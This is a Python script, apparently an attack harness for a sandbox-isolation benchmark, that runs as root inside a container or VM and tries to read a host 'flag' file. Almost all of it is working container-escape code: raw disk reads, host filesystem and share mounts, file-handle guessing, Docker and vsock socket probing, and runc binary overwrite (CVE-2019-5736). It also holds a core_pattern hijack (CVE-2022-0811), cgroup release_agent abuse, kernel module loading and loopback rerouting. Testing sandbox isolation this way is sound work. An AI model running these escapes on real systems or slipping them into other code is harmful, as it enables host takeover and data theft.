"""Attacks on what is around a sandbox, by root in it: each looks for a file of the host, the flag.

`python3 attacks.py JSON` runs inside: once in a guest, and once in a container that has the weakness which the attack is for.
JSON has `names` (which attacks) and what an attacker of such a benchmark is told: `flag` (the file), `mark` (what is in it), and
for some of them `drop`, `agent`, `module`, `helper`, `port`. Each attack prints a line of JSON: `name`, `found` (where the
flag was read) and `said` (what came of it otherwise). Some attacks leave their proof on the host, where the caller looks.
"""

from __future__ import annotations

import ctypes
import json
import os
import re
import signal
import socket
import stat
import subprocess
import sys
import time
import urllib.request
from collections.abc import Iterator
from pathlib import Path

LIBC = ctypes.CDLL(None, use_errno=True)
GIVEN = json.loads(sys.argv[1])
FLAG = GIVEN["flag"]
MARK = GIVEN["mark"].encode()
# What is read of a device: the flag of a container that has one is at its start.
MOST = 64 << 20


class Attack:
    """What an attack found, and what it was told instead."""

    def __init__(self, name: str) -> None:
        self.name = name
        self.found: list[str] = []
        self.said: list[str] = []

    def look(self, where: str, path: str | Path) -> None:
        """Reads a file that could be the flag."""
        try:
            with open(path, "rb") as file:
                self.see(where, file.read(4096))
        except (OSError, ValueError) as error:
            self.hear(error)

    def see(self, where: str, content: bytes) -> None:
        if MARK in content:
            self.found.append(where)

    def hear(self, what: object) -> None:
        text = str(getattr(what, "strerror", None) or what)
        if text not in self.said and len(self.said) < 8:
            self.said.append(text)

    def call(self, *words: str) -> bool:
        """Runs a program of the sandbox's."""
        try:
            done = subprocess.run(words, capture_output=True, text=True, timeout=20)
        except (OSError, subprocess.TimeoutExpired) as error:
            self.hear(error)
            return False
        if done.returncode != 0:
            self.hear((done.stderr.strip().splitlines() or [f"status {done.returncode}"])[-1])
        return done.returncode == 0

    def mount(self, source: str, target: str, kind: str, options: str = "", flags: int = 0) -> bool:
        if LIBC.mount(source.encode(), target.encode(), kind.encode(), ctypes.c_ulong(flags), options.encode()) != 0:
            self.hear(f"mount {kind}: {os.strerror(ctypes.get_errno())}")
            return False
        return True


def block_devices() -> Iterator[str]:
    """Makes a file for each block device that the kernel knows, and yields its path."""
    for place in Path("/sys/class/block").glob("*"):
        major, minor = map(int, (place / "dev").read_text().split(":"))
        path = f"/tmp/{place.name}"
        try:
            os.mknod(path, 0o600 | stat.S_IFBLK, os.makedev(major, minor))
        except FileExistsError:
            pass
        except OSError:
            continue
        yield path
        if os.path.exists(f"/dev/{place.name}"):
            yield f"/dev/{place.name}"


def mounts() -> list[tuple[str, str]]:
    lines = Path("/proc/self/mountinfo").read_text().splitlines()
    return [(line.split()[4], line.split(" - ")[1].split()[0]) for line in lines]


def devices(attack: Attack) -> None:
    """privileged: a container with every device of its host reads the host's disk."""
    for path in block_devices():
        try:
            with open(path, "rb", buffering=0) as device:
                read, last = 0, b""
                while read < MOST and (part := device.read(1 << 20)):
                    attack.see(path, last + part)
                    read, last = read + len(part), part[-64:]
            attack.hear(f"{path}: {read >> 20} MiB read")
        except OSError as error:
            attack.hear(error)


def mounting(attack: Attack) -> None:
    """cap_sys_admin: whoever may mount, mounts the host's file system."""
    os.makedirs("/tmp/mounted", exist_ok=True)
    tags = ["host", "root", "rootfs", "/dev/root", "share", "shared", "hostshare", "myfs", "virtiofs", "9p", "work", "workspace"]
    tags += [f"{name}{number}" for name in ("virtiofs", "fs", "smolvm", "krun", "volume", "mount") for number in range(6)]
    read_only = 1
    ways = [(tag, kind, "trans=virtio" if kind == "9p" else "", read_only) for tag in tags for kind in ("virtiofs", "9p")]
    # A disk that is mounted already is mounted again only in the same way.
    kinds = [(kind, flags) for kind in ("ext4", "ext2", "xfs", "btrfs", "vfat") for flags in (read_only, 0)]
    ways += [(path, kind, "", flags) for path in block_devices() for kind, flags in kinds]
    for source, kind, options, flags in ways:
        if attack.mount(source, "/tmp/mounted", kind, options, flags):
            attack.look(f"{kind} {source}", f"/tmp/mounted/{os.path.basename(FLAG)}")
            attack.look(f"{kind} {source}", f"/tmp/mounted/{FLAG}")
            LIBC.umount2(b"/tmp/mounted", 2)


def host_paths(attack: Attack) -> None:
    """host path mount: out of a folder of the host's that is mounted, by its parents and by links."""
    for place, _ in mounts():
        attack.look(f"below {place}", f"{place}/{FLAG}")
        attack.look(f"beside {place}", f"{place}/{'../' * 12}{FLAG}")
        link = f"{place}/link-{os.getpid()}"
        try:
            os.symlink(FLAG, link)
        except OSError as error:
            attack.hear(error)
            continue
        attack.look(f"a link in {place}", link)
        os.unlink(link)


def handles(attack: Attack) -> None:
    """cap_dac_read_search: a folder of the host's file system gives handles to every file of it."""

    class Handle(ctypes.Structure):
        _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("bytes", ctypes.c_ubyte * 128)]

    for place, kind in mounts():
        if kind in ("proc", "sysfs", "devpts", "mqueue", "cgroup", "cgroup2", "devtmpfs"):
            continue
        try:
            mount = os.open(place, os.O_RDONLY)
        except OSError as error:
            attack.hear(error)
            continue
        own, at = Handle(128), ctypes.c_int()
        known: list[tuple[int, bytes]] = []
        if LIBC.name_to_handle_at(mount, b"", ctypes.byref(own), ctypes.byref(at), 0x1000) == 0:
            rest = bytes(own.bytes[8 : own.size]) if own.size > 8 else b""
            known += [(own.kind, number.to_bytes(8, "little") + rest) for number in (1, 2)]
        known += [(1, number.to_bytes(4, "little") + bytes(4)) for number in (1, 2, 64, 128, 256)]
        for kind_of, content in known:
            guess = Handle(len(content), kind_of, (ctypes.c_ubyte * 128)(*content))
            folder = LIBC.open_by_handle_at(mount, ctypes.byref(guess), os.O_RDONLY)
            if folder < 0:
                attack.hear(os.strerror(ctypes.get_errno()))
                continue
            for name in (os.path.basename(FLAG), FLAG):
                attack.look(f"a handle in {place}", f"/proc/self/fd/{folder}/{name}")
            os.close(folder)
        os.close(mount)


def ask(attack: Attack, where: str, talk: socket.socket) -> None:
    with talk:
        try:
            talk.sendall(f"GET {FLAG} HTTP/1.0\r\n\r\n".encode())
            attack.see(where, talk.recv(65536))
        except OSError as error:
            attack.hear(error)


def sockets(attack: Attack) -> None:
    """docker socket: a daemon of the host's does what it is asked for. Every socket that can be reached is asked for the flag."""
    for folder, below, names in os.walk("/"):
        # Where nothing runs, nothing listens.
        below[:] = [name for name in below if os.path.join(folder, name) not in ("/proc", "/sys", "/usr", "/python")]
        for name in names:
            path = os.path.join(folder, name)
            try:
                if not stat.S_ISSOCK(os.lstat(path).st_mode):
                    continue
                talk = socket.socket(socket.AF_UNIX)
                talk.settimeout(3)
                talk.connect(path)
            except OSError as error:
                attack.hear(error)
                continue
            attack.hear(f"{path} was asked")
            ask(attack, path, talk)
    for port in (*range(5000, 5024), *range(6000, 6200), 1024, 22, 80, 2375, 2376):
        try:
            talk = socket.socket(socket.AF_VSOCK)
            talk.settimeout(1)
            talk.connect((2, port))
        except OSError as error:
            attack.hear(f"vsock: {error.strerror or error}")
            continue
        attack.hear(f"vsock {port} was asked")
        ask(attack, f"vsock {port}", talk)


def processes(attack: Attack) -> None:
    """shared process namespace: the root folder of a process outside."""
    for place in Path("/proc").glob("[0-9]*"):
        attack.look(f"{place}/root", f"{place}/root{FLAG}")


def descriptors(attack: Attack) -> None:
    """CVE-2024-21626: a folder outside that a runtime left open."""
    for place in Path("/proc").glob("[0-9]*/fd/*"):
        try:
            if os.path.isdir(place):
                attack.look(str(place), f"{place}/{'../' * 12}{FLAG}")
                attack.look(str(place), f"{place}/{FLAG}")
        except OSError as error:
            attack.hear(error)


def program(attack: Attack) -> None:
    """CVE-2019-5736: the host's own program that is run inside is overwritten. The caller looks at the host's file."""
    path = GIVEN["helper"]
    for place in dict.fromkeys((os.path.dirname(path), path)):
        if LIBC.mount(None, place.encode(), None, ctypes.c_ulong(0x20 | 0x1000), None) != 0:  # remount, bind
            attack.hear(f"remount: {os.strerror(ctypes.get_errno())}")
        LIBC.mount(None, place.encode(), None, ctypes.c_ulong(0x20), None)
    for name in (path, *map(str, Path("/proc").glob("[0-9]*/exe"))):
        try:
            if name == path or os.readlink(name) == path:
                with open(name, "r+b") as file:
                    file.seek(0, os.SEEK_END)
                    file.write(MARK)
                attack.hear(f"{name} was written to")
        except OSError as error:
            attack.hear(error)
    # What is in the way of a write is not in the way of a new file in its place.
    try:
        os.rename(path, path + ".old")
        Path(path).write_bytes(MARK)
        attack.hear(f"{path} was replaced")
    except OSError as error:
        attack.hear(error)


def crash_handler(attack: Attack) -> None:
    """CVE-2022-0811: a kernel setting that names a program, which the kernel runs outside. The caller looks for its work."""
    os.makedirs("/tmp/proc", exist_ok=True)
    attack.mount("proc", "/tmp/proc", "proc")
    name = "/tmp/proc/sys/kernel/core_pattern"
    try:
        Path(name).write_text(f"|/bin/cp {FLAG} {GIVEN['drop']}/crash_handler")
    except OSError as error:
        attack.hear(error)
        return
    child = os.fork()
    if child == 0:
        os.kill(os.getpid(), signal.SIGSEGV)
        os._exit(0)
    _, status = os.waitpid(child, 0)
    attack.hear(f"set; the crash ended with {status}")
    time.sleep(1)


def release_agent(attack: Attack) -> None:
    """cgroup release agent: a program that the kernel runs outside when a control group is empty. The caller looks for its work."""
    os.makedirs("/tmp/cgroup", exist_ok=True)
    if not attack.mount("cgroup", "/tmp/cgroup", "cgroup", "none,name=attack"):
        return
    try:
        Path("/tmp/cgroup/release_agent").write_text(GIVEN["agent"])
        Path("/tmp/cgroup/notify_on_release").write_text("1")
        inner = Path("/tmp/cgroup/inner")
        inner.mkdir(exist_ok=True)
        (inner / "notify_on_release").write_text("1")
        child = os.fork()
        if child == 0:
            (inner / "cgroup.procs").write_text(str(os.getpid()))
            os._exit(0)
        os.waitpid(child, 0)
        attack.hear("set, and a group became empty")
        time.sleep(2)
    except OSError as error:
        attack.hear(error)


def module(attack: Attack) -> None:
    """cap_sys_module: code in the host's kernel. The caller looks at the host's list of modules."""
    content = Path(GIVEN["module"]).read_bytes()
    if LIBC.syscall(175, content, ctypes.c_ulong(len(content)), b"") != 0:
        attack.hear(os.strerror(ctypes.get_errno()))


def loopback(attack: Attack) -> None:
    """CVE-2020-8558: a port of the host's loopback, by every way and name that leads to a host."""
    port = GIVEN["port"]
    routes = subprocess.run(["ip", "route"], capture_output=True, text=True).stdout
    gateway = re.search(r"default via (\S+) dev (\S+)", routes)
    hosts = ["127.0.0.1", "127.0.0.2", "localhost", "proxy.internal", "host.internal", "host.docker.internal", "169.254.169.254"]
    hosts += ["0.0.0.0", "::1", "::ffff:127.0.0.1", "10.0.2.2", "192.168.127.254", *GIVEN["addresses"]]
    hosts += [gateway[1]] if gateway else []

    def connect(where: str) -> None:
        for host in hosts:
            try:
                with socket.create_connection((host, port), timeout=3) as talk:
                    ask(attack, f"{where}{host}", talk)
            except OSError as error:
                attack.hear(error)

    def through(proxy: str, host: str) -> None:
        opener = urllib.request.build_opener(urllib.request.ProxyHandler({"http": proxy}))
        try:
            with opener.open(f"http://{host}:{port}/", timeout=5) as page:
                attack.see(f"the proxy, {host}", page.read(4096))
        except (OSError, ValueError) as error:
            attack.hear(error)

    connect("")
    if proxy := os.environ.get("HTTP_PROXY"):
        for host in ("127.0.0.1", "localhost", "[::1]", "[::ffff:127.0.0.1]", "2130706433", "0x7f000001", "0", "127.1"):
            through(proxy, host)
    if gateway:
        # Packets for the loopback that leave by the network.
        for name in ("all", gateway[2]):
            attack.call("sysctl", "-w", f"net.ipv4.conf.{name}.route_localnet=1")
        attack.call("ip", "route", "del", "local", "127.0.0.0/8", "table", "local")
        attack.call("ip", "route", "add", "127.0.0.0/8", "via", gateway[1], "dev", gateway[2])
        connect("by the network, ")


ATTACKS = {
    attack.__name__: attack
    for attack in (
        host_paths, handles, processes, descriptors, sockets, devices, mounting, program, crash_handler, release_agent,
        module, loopback,
    )
}


def main() -> None:
    for name in GIVEN["names"]:
        attack = Attack(name)
        try:
            ATTACKS[name](attack)
        except Exception as error:  # one that breaks says so, and the others go on
            attack.said.append(f"{type(error).__name__}: {error}")
        print(json.dumps(vars(attack)), flush=True)
    print(json.dumps({"boot": Path("/proc/sys/kernel/random/boot_id").read_text().strip(), "kernel": os.uname().release}))


if __name__ == "__main__":
    main()
